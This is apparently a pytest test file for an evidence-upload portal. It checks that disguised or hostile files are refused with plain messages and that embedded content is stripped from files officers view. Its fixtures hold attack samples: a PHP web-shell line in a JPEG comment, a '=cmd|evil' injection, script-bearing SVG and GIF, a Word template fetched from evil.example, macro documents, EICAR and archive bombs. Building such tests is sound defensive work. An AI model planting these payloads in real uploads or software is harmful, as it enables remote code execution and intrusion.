"""The attack list of files: what is not a plain photo, PDF or allowed document is refused with words that say what to do.

Every sample is generated here (quality S27, S29, S30); what may be a photo and something else besides is in the last table,
with what officers look at carrying none of it (S28).
"""

from __future__ import annotations

import gzip
from io import BytesIO
from tempfile import TemporaryFile
from uuid import uuid4

import pytest
from PIL import Image

from portal.adapters import decoder
from portal.adapters.store import LocalStore
from portal.domain.evidence.upload_policy import UploadPolicy
from portal.services.evidence import Limits, Received, RefusedFile, receive_file
from tests.antivirus import eicar
from tests.sample_files import (
    SCRIPT,
    acting_pdf,
    animation,
    archive,
    huge_table_pdf,
    nested_pdf,
    pages_pdf,
    phone_photo,
    png_of,
    png_piece,
    word_file,
)
from tests.submitting import pdf_file, photo

KINDS = "The selected file must be a PDF, JPG, PNG, HEIC or WEBP"
DAMAGED = "The selected file is damaged. Choose another copy of it"
PIXELS = "The selected photo is too large. Take it again with a lower resolution"
TWO = "The selected file holds another file inside. Take a photo or a screenshot of it instead"
MACROS = "A macro could be hidden in the selected file. Save it as a PDF and upload that"
ZIP = "We cannot open ZIP files. Upload the documents one by one"
SVG_FILE = "The selected file can hold code. Save it as a PDF, JPG or PNG"
PAGE = "The selected file is a web page. Print it to PDF and upload that"
DOC = "An old Word document (DOC) can hide harmful code. Save it as a PDF or DOCX, or take a photo of it"
PROGRAM = b"MZ" + b"\0" * 200
LINUX = b"\x7fELF" + b"\0" * 200
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EXTERNAL = '<Relationship Id="r" Type="http://schemas.example.org/attachedTemplate" Target="https://evil.example/x" TargetMode="External"/>'
LINK = '<Relationship Id="r" Type="http://schemas.example.org/relationships/hyperlink" Target="https://example.org" TargetMode="External"/>'
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def bomb() -> bytes:
    """A document that unfolds to a thousand times its weight."""
    return word_file(word__bomb_dot_xml=b"\0" * 30_000_000)


def nested_bomb() -> bytes:
    """An archive of archives of archives."""
    content = b"\0" * 10_000_000
    for level in range(5):
        content = archive(**{f"level{level}{number}_dot_zip": content for number in range(4)})
    return content


def gif() -> bytes:
    """A GIF that is also a script."""
    return b"GIF89a/*" + b"\0" * 30 + b"*/=1;alert(1)"


REFUSED = [
    ("page.jpg", SCRIPT, KINDS), ("page.pdf", b"<!doctype html>" + SCRIPT, KINDS), ("page.html", SCRIPT, PAGE), ("photo.htm", photo(), PAGE),
    ("drawing.png", SVG, KINDS), ("drawing.svg", SVG, SVG_FILE), ("drawing.pdf", SVG, KINDS), ("script.jpg", b"alert(1)", KINDS),
    ("script.js", b"alert(1)", KINDS), ("program.pdf", PROGRAM, KINDS), ("program.exe", PROGRAM, KINDS), ("program.jpg", LINUX, KINDS),
    ("letter.jpg", archive(a_dot_txt=b"x"), KINDS), ("letters.zip", archive(a_dot_txt=b"x"), ZIP), ("letters.pdf", gzip.compress(b"x"), KINDS),
    ("letters.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 99, KINDS), ("letters.rar", b"Rar!\x1a\x07\x00" + b"\0" * 99, KINDS),
    ("letter.docx", word_file(), KINDS), ("letter.jpg", word_file(word__vbaProject_dot_bin=b"x"), KINDS), ("letter.docm", word_file(), MACROS),
    ("letter.doc", OLD_WORD, DOC), ("letter.pdf", OLD_WORD, KINDS), ("sheet.xls", OLD_WORD, KINDS), ("moving.gif", gif(), KINDS),
    ("photo.jpg", gif(), KINDS), ("photo.tif", b"II*\0" + b"\0" * 99, KINDS), ("photo.bmp", b"BM" + b"\0" * 99, KINDS),
    ("photo.jpg.exe", photo(), KINDS), ("photo.php.jpg", photo(), KINDS), ("photo.JPG.EXE", photo(), KINDS), ("photo.exe\0.jpg", photo(), KINDS),
    ("photo.exe ", photo(), KINDS), ("photo.exe.", photo(), KINDS), ("EICAR.COM", eicar(), KINDS), ("eicar.jpg", eicar(), KINDS),
    ("empty.pdf", b"", "The selected file is empty"), ("blank.jpg", b" " * 100, KINDS), ("text.pdf", b"rent 95.00", KINDS),
    ("locked.pdf", pdf_file("secret"), "The selected file is password protected"), ("head.pdf", b"%PDF-1.7\n", DAMAGED),
    ("cut.pdf", pdf_file()[:200], DAMAGED), ("nested.pdf", nested_pdf(), DAMAGED), ("table.pdf", huge_table_pdf(), DAMAGED),
    ("long.pdf", pages_pdf(201), "The selected file has too many pages. Send the pages that we asked for"),
    ("flood.png", png_of(50_000, 50_000), PIXELS), ("wide.png", png_of(2_000_000_000, 1), PIXELS), ("cut.jpg", photo("JPEG", (400, 400))[:700], DAMAGED),
    ("cut.png", photo("PNG", (400, 400))[:-30], DAMAGED), ("head.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 40, DAMAGED),
    ("head.heic", b"\0\0\0\x18ftypheic" + b"\0" * 99, DAMAGED), ("head.webp", b"RIFF\0\0\0\0WEBPVP8 " + b"\0" * 40, DAMAGED),
    ("film.webp", animation(1_000), "The selected file is a film or moving picture. Take a photo instead"),
    ("film.png", animation(40, "PNG"), KINDS),
    ("two.jpg", photo() + SCRIPT, TWO), ("two.jpg", photo() + archive(a_dot_txt=b"x"), TWO), ("two.png", photo("PNG") + SCRIPT, TWO),
    ("two.pdf", pdf_file() + archive(a_dot_txt=b"x"), TWO), ("two.webp", photo("WEBP") + archive(a_dot_txt=b"x"), TWO),
    ("bomb.zip", nested_bomb(), ZIP), ("bomb.jpg", nested_bomb(), KINDS), ("bomb.docx", bomb(), KINDS),
]  # fmt: skip
WORD_REFUSED = [
    ("macro.docx", word_file(word__vbaProject_dot_bin=b"x"), MACROS), ("macro.docx", word_file(MACRO_MAIN), MACROS),
    ("fetched.docx", word_file(relations=EXTERNAL), MACROS), ("object.docx", word_file(word__embeddings__oleObject1_dot_bin=b"x"), MACROS),
    ("active.docx", word_file(word__activeX__activeX1_dot_xml=b"x"), MACROS), ("bomb.docx", bomb(), DAMAGED),
    ("sheet.docx", word_file("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), DAMAGED),
    ("cut.docx", word_file()[:-40], DAMAGED), ("letter.doc", OLD_WORD, None), ("letter.docm", word_file(), MACROS),
]  # fmt: skip


@pytest.fixture
def store(tmp_path, app):
    return LocalStore(tmp_path / "store")


def receive(store, name, content, white=()):
    policy = UploadPolicy(white=frozenset(white), size_limit=20_000_000)
    return receive_file(store, uuid4(), name, BytesIO(content), Limits(policy, 40))


@pytest.mark.parametrize(("name", "content", "said"), REFUSED, ids=[f"{n}-{one[0]}" for n, one in enumerate(REFUSED)])
def test_attack_is_refused_in_plain_words_and_nothing_is_kept(store, name, content, said):
    found = receive(store, name, content)
    assert isinstance(found, RefusedFile), found
    assert str(found.wording) == said
    assert list(store.walk()) == []


@pytest.mark.parametrize(
    ("name", "content", "said"), WORD_REFUSED, ids=[f"{n}-{one[0]}" for n, one in enumerate(WORD_REFUSED)]
)
def test_document_with_more_than_text_is_refused_where_documents_are_allowed(store, name, content, said):
    found = receive(store, name, content, white=("docx", "pdf"))
    assert isinstance(found, RefusedFile), found
    assert said is None or str(found.wording) == said
    assert list(store.walk()) == []


@pytest.mark.parametrize("content", [word_file(), word_file(relations=LINK)], ids=["plain", "with a link"])
def test_plain_document_is_received_where_documents_are_allowed(store, content):
    found = receive(store, "letter.docx", content, white=("docx", "pdf"))
    assert isinstance(found, Received), found
    assert found.media_type.endswith("wordprocessingml.document")


def hidden_in_comment() -> bytes:
    """A JPEG whose comment is a short program text."""
    target = BytesIO()
    Image.new("RGB", (40, 30)).save(target, "JPEG", comment=b"<?php system($_GET[0]); ?> evil")
    return target.getvalue()


def hidden_in_text_piece() -> bytes:
    """A PNG with a text of its own."""
    content = photo("PNG")
    at = content.index(b"IDAT") - 4
    return content[:at] + png_piece(b"tEXt", b"Comment\0=cmd|evil") + content[at:]


CARRIERS = {
    "comment": (hidden_in_comment(), "image/jpeg"),
    "text": (hidden_in_text_piece(), "image/png"),
    "program after the end": (photo() + PROGRAM + b"evil", "image/jpeg"),
    "place": (phone_photo().replace(b"Sample", b"evil  "), "image/jpeg"),
    "acting PDF": (acting_pdf(), "application/pdf"),
}


@pytest.mark.parametrize("carrier", CARRIERS)
def test_what_a_photo_or_pdf_carries_is_not_in_what_officers_look_at(store, carrier):
    content, media_type = CARRIERS[carrier]
    found = receive(store, "file", content)
    assert isinstance(found, Received), found
    assert b"".join(store.read(found.store_key)) == content
    with TemporaryFile() as target:
        decoder.copy(BytesIO(content), target, media_type)
        target.seek(0)
        made = target.read()
    assert b"evil" not in made
    assert PROGRAM not in made
